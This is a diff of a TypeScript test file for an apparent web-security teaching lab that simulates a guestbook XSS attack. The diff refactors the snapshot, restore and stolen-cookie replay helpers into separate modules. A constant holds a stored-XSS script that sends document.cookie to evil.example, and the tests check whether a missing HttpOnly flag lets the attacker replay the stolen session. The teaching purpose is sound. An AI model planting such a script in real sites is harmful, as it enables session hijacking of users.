@@ -9,7 +9,9 @@ import { InPageTransport } from '../../src/browser/transport';
 import type { DjangoServer } from '../../src/server/server';
 import { VirtualClock } from '../../src/world/clock';
 import { decodeSaved, encodeSaved } from '../../src/world/persistence';
-import { restoreWorld, World } from '../../src/world/world';
+import { World } from '../../src/world/world';
+import { replayStolen } from '../../src/world/attacker';
+import { restoreWorld, snapshotWorld } from '../../src/world/snapshot';
 
 const transport = (get: () => DjangoServer) => new InPageTransport(get);
 const STEAL = "<script>new Image().src='http://evil.example/steal?c='+document.cookie</script>";
@@ -41,7 +43,7 @@ describe('page scripts in the world', () => {
       ['B', ''],
       ['A', ''],
     ]);
-    expect(() => world.replayStolen('B')).toThrow('no cookie to replay');
+    expect(() => replayStolen(world, 'B')).toThrow('no cookie to replay');
   });
 
   it('without HttpOnly it steals the key, and the attacker’s replay logs her in', async () => {
@@ -67,7 +69,7 @@ describe('page scripts in the world', () => {
       ],
       response: { status: 204, setCookies: [], body: '' },
     });
-    expect(world.replayStolen('B')).toBe(1);
+    expect(replayStolen(world, 'B')).toBe(1);
     expect(world.tab('B').browser.jar.all()).toMatchObject([
       { name: 'sessionid', value: key, httpOnly: false, expiresAt: null, domain: 'localhost' },
     ]);
@@ -90,11 +92,11 @@ describe('page scripts in the world', () => {
 
   it('is saved and restored with the world, and reset with it', async () => {
     const world = await lab(false);
-    const loaded = decodeSaved(encodeSaved(world.snapshot(), 1));
+    const loaded = decodeSaved(encodeSaved(snapshotWorld(world), 1));
     expect(loaded.status).toBe('ok');
     if (loaded.status !== 'ok') return;
     const restored = restoreWorld(loaded.world, { transport, realNow: () => 0 });
-    expect(restored.snapshot()).toEqual(world.snapshot());
+    expect(snapshotWorld(restored)).toEqual(snapshotWorld(world));
     expect(restored.stolen).toEqual(world.stolen);
     expect(restored.tab('A').current?.scripts).toEqual(world.tab('A').current?.scripts);
     expect(restored.server.snapshot().guestbook).toEqual([{ id: 1, text: STEAL }]);
@@ -104,7 +106,7 @@ describe('page scripts in the world', () => {
 
   it('accepts a save from before lab 15, and refuses a damaged stolen list', async () => {
     const world = await lab(false);
-    const saved = JSON.parse(encodeSaved(world.snapshot(), 1));
+    const saved = JSON.parse(encodeSaved(snapshotWorld(world), 1));
     delete saved.world.stolen;
     delete saved.world.server.guestbook;
     for (const t of saved.world.tabs) for (const h of t.history) delete h.scripts;
@@ -112,13 +114,13 @@ describe('page scripts in the world', () => {
     expect(old.status).toBe('ok');
     if (old.status === 'ok')
       expect(restoreWorld(old.world, { transport, realNow: () => 0 }).stolen).toEqual([]);
-    const bad = JSON.parse(encodeSaved(world.snapshot(), 1));
+    const bad = JSON.parse(encodeSaved(snapshotWorld(world), 1));
     bad.world.stolen[0].cookie = 42;
     expect(decodeSaved(JSON.stringify(bad))).toEqual({
       status: 'invalid',
       reason: 'world.stolen[0].cookie: expected text',
     });
-    const badReport = JSON.parse(encodeSaved(world.snapshot(), 1));
+    const badReport = JSON.parse(encodeSaved(snapshotWorld(world), 1));
     const page = badReport.world.tabs[0].history.at(-1);
     page.scripts[0].sent = 'http://evil.example/';
     expect(decodeSaved(JSON.stringify(badReport))).toMatchObject({
